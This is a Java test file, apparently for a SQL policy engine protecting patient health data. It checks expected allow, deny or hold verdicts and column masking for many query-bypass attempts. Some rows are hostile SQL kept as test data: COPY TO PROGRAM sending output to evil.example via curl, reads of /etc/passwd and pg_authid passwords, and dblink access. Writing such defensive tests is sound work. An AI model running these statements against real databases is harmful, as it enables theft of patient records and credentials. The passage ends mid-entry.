package dev.phiguard.policies.decision;

import static dev.phiguard.policies.decision.DecisionFixtures.MRN_RULE;
import static dev.phiguard.policies.decision.DecisionFixtures.REDACT;
import static dev.phiguard.policies.decision.DecisionFixtures.SHIFT;
import static dev.phiguard.policies.decision.DecisionFixtures.SSN_RULE;
import static dev.phiguard.policies.decision.DecisionFixtures.YEAR;
import static dev.phiguard.policies.decision.Expect.allow;
import static dev.phiguard.policies.decision.Expect.deny;
import static dev.phiguard.policies.decision.Expect.hold;

import dev.phiguard.policies.masking.Masking;
import java.util.stream.Stream;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * The decision table of issue 3: one row per SQL string, with the purpose whose policy decides it, the exact verdict
 * (kind and rule) and the exact plan of its rows (every column's name and treatment, the rule and source of masked
 * columns). Every bypass family of invariant 1 has rows here; each string is decided on a fresh session.
 *
 * <p>Purposes: {@code study-42} is {@code policies/examples/study-42.yaml} (read-only, string_agg allowed, patients read
 * without WHERE held unless LIMIT &le; 1000); the others are in {@code src/test/resources/decision/}.
 */
class DecisionCasesTest {

    private static final String S = "study-42";
    private static final String OPEN = "open";
    private static final String WRITER = "writer";
    private static final String INSERTER = "inserter";
    private static final String NARROW = "narrow";
    private static final String HOLDS = "holds";
    private static final String CATALOG = "catalog";

    // open.yaml's rules that differ from study-42's
    private static final Masking NAME = new Masking.Redact("[name]");
    private static final Masking MONTH = new Masking.GeneraliseDate(Masking.GeneraliseDate.Precision.MONTH);
    private static final Masking EMAIL_TOKEN = new Masking.Tokenize(Masking.Tokenize.Format.EMAIL);
    private static final Masking NULLIFY = new Masking.Nullify();
    private static final Masking ZIP_SHAPE = new Masking.Partial(0, '#');
    private static final Masking TEXT_TOKEN = new Masking.Tokenize(Masking.Tokenize.Format.TEXT);

    @ParameterizedTest(name = "[{index}] {0} under {1}: {2} -> {3}")
    @MethodSource("cases")
    void decides(String family, String purpose, String sql, Expect expected) {
        expected.verify(DecisionFixtures.engine(purpose), sql);
    }

    private static Arguments c(String family, String purpose, String sql, Expect expected) {
        return Arguments.of(family, purpose, sql, expected);
    }

    /** Every column of patients under study-42, in catalog order. */
    private static Expect patients42(Expect e) {
        return e.clear("patient_id").masked("mrn", MRN_RULE, "patients.mrn").masked("ssn", SSN_RULE, "patients.ssn")
                .masked("first_name", REDACT, "patients.first_name").masked("last_name", REDACT, "patients.last_name")
                .masked("date_of_birth", YEAR, "patients.date_of_birth").masked("email", REDACT, "patients.email")
                .masked("phone", REDACT, "patients.phone").masked("street", REDACT, "patients.street")
                .masked("city", REDACT, "patients.city").clear("state").masked("zip", REDACT, "patients.zip").clear("notes");
    }

    /** Every column of encounters under study-42 and open, in catalog order. */
    private static Expect encounters(Expect e) {
        return e.clear("encounter_id", "patient_id").masked("admitted_at", SHIFT, "encounters.admitted_at")
                .masked("discharged_at", SHIFT, "encounters.discharged_at").clear("diagnosis_code", "notes");
    }

    private static Expect ssn(Expect e, String name) {
        return e.masked(name, SSN_RULE, "patients.ssn");
    }

    static Stream<Arguments> cases() {
        return Stream.of(
                // --- plain references and aliases: the column keeps its masking rule --------------------------------
                c("direct", S, "select ssn from patients where patient_id = 1", ssn(allow(), "ssn")),
                c("alias", S, "select ssn as s from patients where patient_id = 1", ssn(allow(), "s")),
                c("alias", S, "select p.ssn as \"Ssn\" from patients p where p.patient_id = 1", ssn(allow(), "Ssn")),
                c("alias", S, "SELECT PATIENTS.SSN FROM PUBLIC.PATIENTS WHERE PATIENT_ID = 1", ssn(allow(), "ssn")),
                c("alias", S, "select x from patients as p(a, b, x) where a = 1", ssn(allow(), "x")),
                c("alias", S, "select public.patients.ssn from patients where patient_id = 1", ssn(allow(), "ssn")),
                c("alias", S, "select (p).ssn from patients p where patient_id = 1", ssn(allow(), "ssn")),
                c("direct", S, "select patient_id, mrn, state, notes from patients where patient_id < 10",
                        allow().clear("patient_id").masked("mrn", MRN_RULE, "patients.mrn").clear("state", "notes")),
                c("direct", S, "select date_of_birth, first_name from patients where state = 'MA'",
                        allow().masked("date_of_birth", YEAR, "patients.date_of_birth")
                                .masked("first_name", REDACT, "patients.first_name")),
                c("star", S, "select * from patients where patient_id = 1", patients42(allow())),
                c("star", S, "select p.* from patients p where p.patient_id = 1", patients42(allow())),
                c("star", S, "table encounters", encounters(allow())),
                c("direct", S, "select admitted_at, diagnosis_code from encounters",
                        allow().masked("admitted_at", SHIFT, "encounters.admitted_at").clear("diagnosis_code")),
                c("join", S, "select e.admitted_at, p.mrn from encounters e join patients p on p.patient_id = e.patient_id "
                        + "where e.encounter_id = 1", allow().masked("admitted_at", SHIFT, "encounters.admitted_at")
                        .masked("mrn", MRN_RULE, "patients.mrn")),
                c("direct", OPEN, "select last_name, date_of_birth, email, phone, zip from patients",
                        allow().masked("last_name", NAME, "patients.last_name")
                                .masked("date_of_birth", MONTH, "patients.date_of_birth")
                                .masked("email", EMAIL_TOKEN, "patients.email").masked("phone", NULLIFY, "patients.phone")
                                .masked("zip", ZIP_SHAPE, "patients.zip")),
                c("schema", OPEN, "select label, patient_id from research.cohorts",
                        allow().masked("label", TEXT_TOKEN, "research.cohorts.label").clear("patient_id")),

                // --- casts: a cast is not a plain reference, the value is suppressed ---------------------------------
                c("cast", S, "select ssn::text from patients where patient_id = 1", allow().suppressed("ssn")),
                c("cast", S, "select cast(ssn as varchar(11)) as s from patients where patient_id = 1", allow().suppressed("s")),
                c("cast", S, "select ssn::text::varchar as s from patients where patient_id = 1", allow().suppressed("s")),
                c("cast", S, "select date_of_birth::text from patients where patient_id = 1", allow().suppressed("date_of_birth")),
                c("cast", S, "select mrn::bytea from patients where patient_id = 1", allow().suppressed("mrn")),
                c("cast", S, "select ssn collate \"C\" from patients where patient_id = 1", allow().suppressed("ssn")),
                c("cast", S, "select admitted_at::date from encounters", allow().suppressed("admitted_at")),
                c("cast", S, "select patient_id::text from patients where patient_id = 1", allow().clear("patient_id")),

                // --- expressions and string functions ---------------------------------------------------------------
                c("function", S, "select substr(ssn, 1, 3) from patients where patient_id = 1", allow().suppressed("substr")),
                c("function", S, "select lower(first_name), upper(state) from patients where patient_id = 1",
                        allow().suppressed("lower").clear("upper")),
                c("function", S, "select right(ssn, 4) from patients where patient_id = 1", allow().suppressed("right")),
                c("function", S, "select left(mrn, 3) from patients where patient_id = 1", allow().suppressed("left")),
                c("function", S, "select length(ssn) + 1 as n from patients where patient_id = 1", allow().suppressed("n")),
                c("function", S, "select replace(ssn, '-', '') from patients where patient_id = 1", allow().suppressed("replace")),
                c("function", S, "select translate(ssn, '0123456789', 'abcdefghij') from patients where patient_id = 1",
                        allow().suppressed("translate")),
                c("function", S, "select trim(street) from patients where patient_id = 1", allow().suppressed("btrim")),
                c("function", S, "select substring(ssn from 8 for 4) from patients where patient_id = 1",
                        allow().suppressed("substring")),
                c("function", S, "select reverse(ssn) from patients where patient_id = 1", allow().suppressed("reverse")),
                c("expression", S, "select ssn ~ '^9' from patients where patient_id = 1", allow().suppressed("?column?")),
                c("expression", S, "select to_char(date_of_birth, 'YYYY-MM-DD') from patients where patient_id = 1",
                        allow().suppressed("to_char")),
                c("expression", S, "select extract(year from date_of_birth) from patients where patient_id = 1",
                        allow().suppressed("extract")),
                c("expression", S, "select date_trunc('year', admitted_at) from encounters", allow().suppressed("date_trunc")),
                c("expression", S, "select admitted_at - discharged_at as stay from encounters", allow().suppressed("stay")),
                c("function", S, "select pg_catalog.lower(ssn) from patients where patient_id = 1", allow().suppressed("lower")),
                c("subscript", S, "select (array[ssn, mrn])[1] from patients where patient_id = 1", allow().suppressed("array")),
                c("coalesce", S, "select coalesce(ssn, 'none') from patients where patient_id = 1", allow().suppressed("coalesce")),
                c("coalesce", S, "select greatest(ssn, mrn) from patients where patient_id = 1", allow().suppressed("greatest")),
                c("coalesce", S, "select nullif(notes, '') from patients where patient_id = 1", allow().clear("nullif")),
                c("function", S, "select upper(diagnosis_code) from encounters", allow().clear("upper")),
                c("function", S, "select md5(ssn) from patients where patient_id = 1",
                        deny(Rules.FUNCTIONS).saying("md5").suppressed("md5")),
                c("function", OPEN, "select md5(ssn) from patients", allow().suppressed("md5")),
                c("function", S, "select public.lower(ssn) from patients where patient_id = 1",
                        deny(Rules.FUNCTIONS).saying("public.lower").suppressed("lower")),
                c("function", S, "select regexp_replace(ssn, '-', '', 'g') from patients where patient_id = 1",
                        deny(Rules.FUNCTIONS).suppressed("regexp_replace")),

                // --- concatenation -----------------------------------------------------------------------------------
                c("concatenation", S, "select ssn || '' from patients where patient_id = 1", allow().suppressed("?column?")),
                c("concatenation", S, "select 'x' || mrn as m from patients where patient_id = 1", allow().suppressed("m")),
                c("concatenation", S, "select concat(first_name, ' ', last_name) as name from patients where patient_id = 1",
                        allow().suppressed("name")),
                c("concatenation", S, "select concat_ws('-', state, zip) from patients where patient_id = 1",
                        allow().suppressed("concat_ws")),
                c("concatenation", S, "select state || '/' || notes from patients where patient_id = 1",
                        allow().clear("?column?")),
                c("concatenation", S, "select format('%s', ssn) from patients where patient_id = 1",
                        deny(Rules.FUNCTIONS).suppressed("format")),

                // --- CASE ----------------------------------------------------------------------------------------------
                c("case", S, "select case when ssn like '9%' then 'a' else 'b' end as k from patients where patient_id = 1",
                        allow().suppressed("k")),
                c("case", S, "select case state when 'MA' then first_name else 'x' end as c from patients where patient_id = 1",
                        allow().suppressed("c")),
                c("case", S, "select case when state = 'MA' then 1 else 0 end as c from patients where patient_id = 1",
                        allow().clear("c")),
                c("case", S, "select case when patient_id > 0 then ssn end from patients where patient_id = 1",
                        allow().suppressed("case")),

                // --- aggregates ----------------------------------------------------------------------------------------
                c("aggregate", S, "select string_agg(ssn, ',') from patients where state = 'MA'", allow().suppressed("string_agg")),
                c("aggregate", S, "select string_agg(notes, ' ') from patients where state = 'MA'", allow().clear("string_agg")),
                c("aggregate", S, "select array_agg(ssn) from patients where state = 'MA'",
                        deny(Rules.FUNCTIONS).saying("array_agg").suppressed("array_agg")),
                c("aggregate", OPEN, "select array_agg(ssn order by date_of_birth) from patients", allow().suppressed("array_agg")),
                c("aggregate", OPEN, "select array_agg(state order by date_of_birth) from patients", allow().suppressed("array_agg")),
                c("aggregate", S, "select min(ssn), max(ssn) from patients where state = 'MA'", allow().suppressed("min", "max")),
                c("aggregate", S, "select max(admitted_at) from encounters", allow().suppressed("max")),
                c("aggregate", S, "select avg(length(ssn)) from patients where state = 'MA'", allow().suppressed("avg")),
                c("aggregate", S, "select count(*) from patients where state = 'MA'", allow().clear("count")),
                c("aggregate", S, "select count(distinct ssn) from patients where state = 'MA'", allow().suppressed("count")),
                c("aggregate", S, "select ssn || count(*) from patients where state = 'MA' group by ssn",
                        allow().suppressed("?column?")),
                c("aggregate", S, "select state, count(*) from patients where patient_id > 0 group by state",
                        allow().clear("state", "count")),
                c("aggregate", S, "select count(*) from patients", hold(Rules.HOLD_NO_WHERE).saying("patients").clear("count")),
                c("aggregate", OPEN, "select json_agg(ssn) from patients", allow().suppressed("json_agg")),
                c("aggregate", OPEN, "select jsonb_agg(p) from patients p", deny(Rules.WHOLE_ROW).suppressed("jsonb_agg")),
                c("aggregate", S, "select diagnosis_code, count(*) from encounters group by diagnosis_code having count(*) > 5",
                        allow().clear("diagnosis_code", "count")),

                // --- window functions -----------------------------------------------------------------------------------
                c("window", S, "select row_number() over (order by ssn) from patients where state = 'MA'",
                        deny(Rules.FUNCTIONS).saying("row_number").suppressed("row_number")),
                c("window", OPEN, "select row_number() over (order by ssn) from patients", allow().suppressed("row_number")),
                c("window", OPEN, "select row_number() over (order by patient_id) as n, state from patients",
                        allow().clear("n", "state")),
                c("window", OPEN, "select first_value(ssn) over (partition by state order by date_of_birth) from patients",
                        allow().suppressed("first_value")),
                c("window", OPEN, "select lag(mrn) over (order by patient_id) from patients", allow().suppressed("lag")),
                c("window", OPEN, "select lag(state) over (order by date_of_birth) from patients", allow().suppressed("lag")),
                c("window", S, "select max(ssn) over (partition by state) as m from patients where patient_id < 5",
                        allow().suppressed("m")),
                c("window", S, "select count(*) over (partition by state) as n, state from patients where patient_id < 5",
                        allow().clear("n", "state")),

                // --- row and JSON constructors, whole-row references -----------------------------------------------------
                c("whole row", S, "select row_to_json(p) from patients p where patient_id = 1",
                        deny(Rules.FUNCTIONS).saying("row_to_json").suppressed("row_to_json")),
                c("whole row", OPEN, "select row_to_json(p) from patients p where patient_id = 1",
                        deny(Rules.WHOLE_ROW).saying("patients").suppressed("row_to_json")),
                c("whole row", OPEN, "select to_jsonb(p) from patients p", deny(Rules.WHOLE_ROW).suppressed("to_jsonb")),
                c("whole row", OPEN, "select to_jsonb(p.*) from patients p", deny(Rules.WHOLE_ROW).suppressed("to_jsonb")),
                c("whole row", OPEN, "select md5(p::text) from patients p", deny(Rules.WHOLE_ROW).suppressed("md5")),
                c("whole row", S, "select p from patients p where patient_id = 1",
                        deny(Rules.WHOLE_ROW).saying("select the columns you need").suppressed("p")),
                c("whole row", S, "select p::text from patients p where patient_id = 1", deny(Rules.WHOLE_ROW).suppressed("p")),
                c("whole row", S, "select patients from patients where patient_id = 1",
                        deny(Rules.WHOLE_ROW).suppressed("patients")),
                c("whole row", S, "select e from encounters e", deny(Rules.WHOLE_ROW).saying("encounters").suppressed("e")),
                c("whole row", OPEN, "select row_to_json(e) from encounters e", deny(Rules.WHOLE_ROW).suppressed("row_to_json")),
                c("whole row", OPEN, "select row_to_json(p) || ssn from patients p", allow().suppressed("?column?")),
                c("whole row", OPEN, "select c from research.cohorts c", deny(Rules.WHOLE_ROW).suppressed("c")),
                c("row", S, "select row(ssn)::text from patients where patient_id = 1", allow().suppressed("row")),
                c("row", S, "select (ssn, mrn) as r from patients where patient_id = 1", allow().suppressed("r")),
                c("row", S, "select row(state, notes) as r from patients where patient_id = 1", allow().clear("r")),
                c("json", OPEN, "select row_to_json(row(ssn, mrn)) from patients", allow().suppressed("row_to_json")),
                c("json", OPEN, "select json_build_object('s', ssn) from patients", allow().suppressed("json_build_object")),
                c("json", OPEN, "select to_json(ssn) from patients", allow().suppressed("to_json")),
                c("json", OPEN, "select row_to_json(t) from (select patient_id, ssn from patients) t",
                        allow().suppressed("row_to_json")),
                c("json", OPEN, "select row_to_json(t) from (select patient_id, state from patients) t",
                        allow().clear("row_to_json")),
                c("json", S, "select json_build_object('s', ssn) from patients where patient_id = 1",
                        deny(Rules.FUNCTIONS).suppressed("json_build_object")),

                // --- sub-queries ------------------------------------------------------------------------------------
                c("sub-query", S, "select (select ssn from patients where patient_id = 1)", ssn(allow(), "ssn")),
                c("sub-query", S, "select (select max(ssn) from patients where patient_id = 1) as m", allow().suppressed("m")),
                c("sub-query", S, "select s from (select ssn as s from patients where patient_id = 1) t", ssn(allow(), "s")),
                c("sub-query", S, "select upper(l) from (select lower(first_name) as l from patients where patient_id = 1) t",
                        allow().suppressed("upper")),
                c("sub-query", S, "select t.* from (select ssn, date_of_birth from patients where patient_id = 1) t",
                        ssn(allow(), "ssn").masked("date_of_birth", YEAR, "patients.date_of_birth")),
                c("sub-query", S, "select exists(select 1 from patients where ssn like '9%')", allow().suppressed("exists")),
                c("sub-query", S, "select encounter_id from encounters e where exists (select 1 from patients p "
                        + "where p.patient_id = e.patient_id and p.ssn like '9%')", allow().clear("encounter_id")),
                c("sub-query", S, "select e.encounter_id, (select p.mrn from patients p where p.patient_id = e.patient_id) "
                        + "from encounters e", allow().clear("encounter_id").masked("mrn", MRN_RULE, "patients.mrn")),
                c("filter", S, "select patient_id from patients where ssn = '123-45-6789'", allow().clear("patient_id")),
                c("lateral", S, "select u.s from patients p, lateral (select p.ssn as s) u where p.patient_id = 1",
                        ssn(allow(), "s")),
                c("lateral", OPEN, "select v from patients p, unnest(array[p.ssn, p.mrn]) v", allow().suppressed("v")),

                // --- common table expressions ---------------------------------------------------------------------------
                c("cte", S, "with c as (select ssn as s from patients where patient_id = 1) select s from c", ssn(allow(), "s")),
                c("cte", S, "with c(x) as (select mrn from patients where patient_id = 1) select x from c",
                        allow().masked("x", MRN_RULE, "patients.mrn")),
                c("cte", S, "with a as (select ssn from patients where patient_id = 1), b as (select ssn as t from a) "
                        + "select t from b", ssn(allow(), "t")),
                c("cte", S, "with patients as (select 'x' as ssn) select ssn from patients", allow().clear("ssn")),
                c("cte", S, "with recursive r(n, s) as (select 1, ssn from patients where patient_id = 1 "
                        + "union all select n + 1, s from r where n < 3) select n, s from r", ssn(allow().clear("n"), "s")),
                c("cte", S, "with c as (select * from patients where patient_id = 1) select upper(first_name) from c",
                        allow().suppressed("upper")),
                c("cte", S, "with c as (select ssn from patients) select * from c", ssn(hold(Rules.HOLD_NO_WHERE), "ssn")),
                c("cte", S, "with c as materialized (select ssn from patients where patient_id = 1) select * from c",
                        ssn(allow(), "ssn")),

                // --- set operations ---------------------------------------------------------------------------------------
                c("union", S, "select ssn from patients where patient_id = 1 union select diagnosis_code from encounters",
                        allow().suppressed("ssn")),
                c("union", S, "select ssn from patients where patient_id = 1 union all select ssn from patients where patient_id = 2",
                        ssn(allow(), "ssn")),
                c("union", S, "select state from patients where patient_id = 1 union select diagnosis_code from encounters",
                        allow().clear("state")),
                c("except", S, "select ssn from patients where patient_id = 1 except select 'x'", allow().suppressed("ssn")),
                c("intersect", S, "select mrn from patients where patient_id = 1 intersect select ssn from patients "
                        + "where patient_id = 2", allow().suppressed("mrn")),
                c("union", S, "select s from (select ssn as s from patients where patient_id = 1 union select notes "
                        + "from encounters) u", allow().suppressed("s")),
                c("union", S, "select 'a' as k union select 'b'", allow().clear("k")),

                // --- views resolve to their base columns ------------------------------------------------------------------
                c("view", S, "select * from patient_contacts", deny(Rules.TABLES).saying("patient_contacts")
                        .clear("patient_id").masked("email", REDACT, "patients.email").masked("phone", REDACT, "patients.phone")
                        .masked("city", REDACT, "patients.city").clear("state")),
                c("view", OPEN, "select * from patient_contacts", allow().clear("patient_id")
                        .masked("email", EMAIL_TOKEN, "patients.email").masked("phone", NULLIFY, "patients.phone")
                        .masked("city", REDACT, "patients.city").clear("state")),
                c("view", OPEN, "select lower(email) from patient_contacts", allow().suppressed("lower")),
                c("view", OPEN, "select c.state, count(*) from patient_contacts c group by c.state", allow().clear("state", "count")),
                c("view", OPEN, "select row_to_json(c) from patient_contacts c", allow().suppressed("row_to_json")),
                c("view", OPEN, "select last4 from patient_ssn_last4", allow().suppressed("last4")),
                c("view", CATALOG, "select email from patient_contacts", deny(Rules.TABLES).saying("patients")
                        .clear("email")),
                c("view", NARROW, "select * from patient_contacts", deny(Rules.TABLES)
                        .clear("patient_id", "email", "phone", "city", "state")),

                // --- cursors: DECLARE is judged by its query; FETCH needs a declared cursor -----------------------------
                c("cursor", S, "declare c cursor for select ssn from patients where patient_id = 1", allow().noRows()),
                c("cursor", S, "declare c binary cursor for select ssn from patients where patient_id = 1", allow().noRows()),
                c("cursor", S, "declare c cursor for select ssn from patients", hold(Rules.HOLD_NO_WHERE).noRows()),
                c("cursor", S, "declare c cursor for select p from patients p where patient_id = 1",
                        deny(Rules.WHOLE_ROW).noRows()),
                c("cursor", S, "declare c cursor for select md5(ssn) from patients where patient_id = 1",
                        deny(Rules.FUNCTIONS).noRows()),
                c("cursor", S, "declare c cursor for select * from pg_stats", deny(Rules.TABLES).noRows()),
                c("cursor", S, "declare c cursor with hold for select mrn from patients limit 10", allow().noRows()),
                c("cursor", S, "fetch 10 from c", deny(Rules.SESSION_CURSOR).unknownPlan()),
                c("cursor", S, "move next in c", deny(Rules.SESSION_CURSOR).noRows()),
                c("cursor", S, "close c", deny(Rules.SESSION_CURSOR).noRows()),
                c("cursor", S, "close all", allow().noRows()),

                // --- COPY ---------------------------------------------------------------------------------------------
                c("copy", S, "copy (select ssn from patients where patient_id < 10) to stdout", ssn(allow(), "ssn")),
                c("copy", S, "copy (select ssn::text from patients where patient_id < 10) to stdout with (format csv)",
                        allow().suppressed("ssn")),
                c("copy", S, "copy patients to stdout", patients42(hold(Rules.HOLD_NO_WHERE).saying("1000"))),
                c("copy", S, "copy encounters to stdout", encounters(allow())),
                c("copy", S, "copy encounters (encounter_id, admitted_at) to stdout with (format csv, header)",
                        allow().clear("encounter_id").masked("admitted_at", SHIFT, "encounters.admitted_at")),
                c("copy", S, "copy (select row_to_json(p) from patients p where patient_id = 1) to stdout",
                        deny(Rules.FUNCTIONS).suppressed("row_to_json")),
                c("copy", OPEN, "copy (select row_to_json(p) from patients p) to stdout",
                        deny(Rules.WHOLE_ROW).suppressed("row_to_json")),
                c("copy", S, "copy (with c as (select mrn from patients where patient_id = 1) select * from c) to stdout",
                        allow().masked("mrn", MRN_RULE, "patients.mrn")),
                c("copy", S, "copy patients to '/tmp/patients.csv'", patients42(deny(Rules.COPY_TARGET))),
                c("copy", S, "copy (select 1) to program 'curl -d @- https://evil.example'",
                        deny(Rules.COPY_TARGET).clear("?column?")),
                c("copy", S, "copy encounters to stdout with (format binary)", encounters(deny(Rules.COPY_BINARY))),
                c("copy", S, "copy binary encounters to stdout", encounters(deny(Rules.COPY_BINARY))),
                c("copy", S, "copy encounters from stdin", deny(Rules.STATEMENTS).saying("copy_to").noRows()),
                c("copy", S, "copy patient_contacts to stdout", deny(Rules.TABLES).clear("patient_id")
                        .masked("email", REDACT, "patients.email").masked("phone", REDACT, "patients.phone")
                        .masked("city", REDACT, "patients.city").clear("state")),
                c("copy", S, "copy (delete from encounters returning encounter_id) to stdout",
                        deny(Rules.STATEMENTS).saying("DELETE").clear("encounter_id")),
                c("copy", WRITER, "copy research.cohorts from stdin", allow().noRows()),
                c("copy", WRITER, "copy research.cohorts from '/tmp/cohorts.csv'", deny(Rules.COPY_TARGET).noRows()),
                c("copy", WRITER, "copy encounters from stdin", hold(Rules.HOLD_ANY_WRITE).noRows()),

                // --- server-side prepared statements (EXECUTE needs a PREPARE in the same session) ------------------
                c("prepare", S, "prepare q(int) as select ssn from patients where patient_id = $1", allow().noRows()),
                c("prepare", S, "prepare q as select ssn::text from patients where patient_id = 1", allow().noRows()),
                c("prepare", S, "prepare q as select p from patients p where patient_id = $1", deny(Rules.WHOLE_ROW).noRows()),
                c("prepare", S, "prepare q as select query_to_xml('select 1', true, true, '')", deny(Rules.FUNCTIONS).noRows()),
                c("prepare", S, "prepare u as update patients set notes = $1 where patient_id = $2",
                        deny(Rules.STATEMENTS).saying("UPDATE").noRows()),
                c("prepare", S, "prepare q as select ssn from patients", hold(Rules.HOLD_NO_WHERE).noRows()),
                c("prepare", S, "execute q(1)", deny(Rules.SESSION_PREPARED).unknownPlan()),
                c("prepare", S, "execute q((select ssn from patients limit 1))", deny(Rules.ANALYSIS).unknownPlan()),
                c("prepare", S, "deallocate q", allow().noRows()),
                c("prepare", S, "deallocate prepare all", allow().noRows()),

                // --- functions that run SQL text, read files or reach other databases: never allowed ------------------
                c("outside", S, "select query_to_xml('select * from patients', true, false, '')",
                        deny(Rules.FUNCTIONS).saying("never allowed").clear("query_to_xml")),
                c("outside", S, "select dblink('dbname=x', 'select ssn from patients')",
                        deny(Rules.FUNCTIONS).saying("dblink").clear("dblink")),
                c("outside", S, "select * from dblink('dbname=x', 'select ssn from patients') as t(ssn text)",
                        deny(Rules.FUNCTIONS).saying("never allowed").clear("ssn")),
                c("outside", S, "select pg_read_file('/etc/passwd')", deny(Rules.FUNCTIONS).clear("pg_read_file")),
                c("outside", S, "select pg_catalog.pg_read_binary_file('/x')",
                        deny(Rules.FUNCTIONS).saying("never allowed").clear("pg_read_binary_file")),
                c("outside", S, "select lo_import('/etc/passwd')", deny(Rules.FUNCTIONS).clear("lo_import")),
                c("outside", S, "select * from pg_ls_dir('.') f", deny(Rules.FUNCTIONS).clear("f")),
                c("outside", S, "select set_config('search_path', 'evil', false)", deny(Rules.FUNCTIONS).clear("set_config")),
                c("outside", S, "select xmlagg(x) from query_to_xml('select 1', true, true, '') x",
                        deny(Rules.FUNCTIONS).clear("xmlagg")),
                c("outside", S, "select table_to_xml('patients', true, false, '')", deny(Rules.FUNCTIONS).clear("table_to_xml")),
                c("outside", S, "select ts_stat('select notes from patients')", deny(Rules.FUNCTIONS).clear("ts_stat")),
                c("outside", S, "select pg_sleep(10)", deny(Rules.FUNCTIONS).clear("pg_sleep")),
                c("outside", S, "select current_setting('search_path')",
                        deny(Rules.FUNCTIONS).saying("allow-list").clear("current_setting")),
                c("outside", OPEN, "select ssn from patients where dblink_exec('dbname=x', 'select 1') = 'x'",
                        deny(Rules.FUNCTIONS).saying("dblink_exec").masked("ssn", SSN_RULE, "patients.ssn")),

                // --- catalog and statistics views ---------------------------------------------------------------------------
                c("catalog", S, "select most_common_vals from pg_stats where tablename = 'patients'",
                        deny(Rules.TABLES).saying("pg_catalog.pg_stats").suppressed("most_common_vals")),
                c("catalog", S, "select * from pg_catalog.pg_stats", deny(Rules.TABLES).suppressed("schemaname", "tablename",
                        "attname", "null_frac", "most_common_vals", "histogram_bounds")),
                c("catalog", S, "select stavalues1 from pg_statistic", deny(Rules.TABLES).suppressed("stavalues1")),
                c("catalog", S, "select stxdmcv from pg_statistic_ext_data", deny(Rules.TABLES).saying("never readable")
                        .suppressed("stxdmcv")),
                c("catalog", S, "select stxname, stxkind from pg_statistic_ext where stxrelid = 'patients'::regclass",
                        allow().clear("stxname", "stxkind")),
                c("catalog", S, "select rolpassword from pg_authid", deny(Rules.TABLES).saying("credentials").suppressed("rolpassword")),
                c("catalog", S, "select query from pg_stat_activity", deny(Rules.TABLES).saying("query texts").suppressed("query")),
                c("catalog", S, "select data from pg_largeobject", deny(Rules.TABLES).suppressed("data")),
                c("catalog", S, "select query from pg_stat_statements", deny(Rules.TABLES).suppressed("query")),
                c("catalog", S, "select histogram_bounds from pg_stats s join patients p on s.attname = 'ssn'",
                        deny(Rules.TABLES).suppressed("histogram_bounds")),
                c("catalog", CATALOG, "select most_common_vals from pg_stats", deny(Rules.TABLES).suppressed("most_common_vals")),
                c("catalog", CATALOG, "select rolname from pg_roles", allow().clear("rolname")),
                c("catalog", S, "select rolname from pg_roles", deny(Rules.TABLES).saying("pg_catalog.pg_roles").clear("rolname")),
                c("catalog", S, "select relname from pg_class where relkind = 'r'", allow().clear("relname")),
                c("catalog", S, "select c.relname, n.nspname from pg_catalog.pg_class c "
                        + "join pg_catalog.pg_namespace n on n.oid = c.relnamespace", allow().clear("relname", "nspname")),
                c("catalog", S, "select attname, atttypid from pg_attribute where attrelid = 'patients'::regclass",
                        allow().clear("attname", "atttypid")),
                c("catalog", S, "select t.typname from pg_type t where t.oid = $1", allow().clear("typname")),
                c("catalog", NARROW, "select c from pg_class c", allow().clear("c")),

                // --- writes and DDL under a read-only policy -----------------------------------------------------------------
                c("write", S, "insert into encounters (patient_id, notes) values (1, 'x')",
                        deny(Rules.STATEMENTS).saying("INSERT").noRows()),
                c("write", S, "update patients set notes = 'x' where patient_id = 1", deny(Rules.STATEMENTS).noRows()),
                c("write", S, "delete from encounters where encounter_id = 1", deny(Rules.STATEMENTS).noRows()),
                c("write", S, "delete from encounters where encounter_id = 1 returning admitted_at",
                        deny(Rules.STATEMENTS).masked("admitted_at", SHIFT, "encounters.admitted_at")),
                c("write", S, "merge into encounters e using patients p on e.patient_id = p.patient_id when matched then delete",
                        deny(Rules.STATEMENTS).saying("MERGE").noRows()),
                c("write", S, "with d as (delete from encounters returning *) select * from d",
                        encounters(deny(Rules.STATEMENTS))),
                c("write", S, "select ssn from patients where patient_id = 1 for update",
                        ssn(deny(Rules.STATEMENTS).saying("row-locking"), "ssn")),
                c("write", S, "explain analyze delete from encounters", deny(Rules.STATEMENTS).suppressed("QUERY PLAN")),
                c("write", S, "explain delete from encounters", deny(Rules.STATEMENTS).suppressed("QUERY PLAN")),
                c("write", S, "update pg_catalog.pg_class set relname = 'x'", deny(Rules.STATEMENTS).noRows()),
                c("ddl", S, "create table t (id int)", deny(Rules.STATEMENTS).saying("any policy").noRows()),
                c("ddl", S, "drop table patients", deny(Rules.STATEMENTS).noRows()),
                c("ddl", S, "truncate encounters", deny(Rules.STATEMENTS).noRows()),
                c("ddl", S, "alter table patients add column x int", deny(Rules.STATEMENTS).noRows()),
                c("ddl", S, "select ssn into newt from patients", deny(Rules.STATEMENTS).noRows()),
                c("ddl", S, "create table x as select * from patients", deny(Rules.STATEMENTS).noRows()),
                c("ddl", S, "create view v as select ssn from patients", deny(Rules.STATEMENTS).noRows()),
                c("ddl", S, "grant select on patients to public", deny(Rules.STATEMENTS).noRows()),
                c("ddl", S, "do $$ begin perform pg_sleep(1); end $$", deny(Rules.STATEMENTS).saying("DO").noRows()),
                c("ddl", S, "call archive_patients(1)", deny(Rules.STATEMENTS).noRows()),
                c("ddl", S, "lock table patients in access exclusive mode", deny(Rules.STATEMENTS).noRows()),
                c("ddl", S, "vacuum analyze patients", deny(Rules.STATEMENTS).noRows()),
                c("ddl", S, "checkpoint", deny(Rules.STATEMENTS).noRows()),
                c("ddl", S, "prepare transaction 'tx1'", deny(Rules.STATEMENTS).noRows()),
                c("ddl", WRITER, "truncate research.cohorts", deny(Rules.STATEMENTS).noRows()),
                c("ddl", WRITER, "create index i on research.cohorts (label)", deny(Rules.STATEMENTS).noRows()),

                // --- writes under a policy that allows them ----------------------------------------------------------
                c("write", WRITER, "insert into research.cohorts (patient_id, label) values (1, 'a')", allow().noRows()),
                c("write", WRITER, "update research.cohorts set label = 'b' where patient_id = 1 returning patient_id",
                        allow().clear("patient_id")),
                c("write", WRITER, "delete from research.cohorts where patient_id = 1 returning label", allow().clear("label")),
                c("write", WRITER, "insert into research.cohorts (patient_id) select patient_id from patients where state = 'MA'",
                        allow().noRows()),
                c("write", WRITER, "insert into encounters (patient_id, notes) values (1, 'x')",
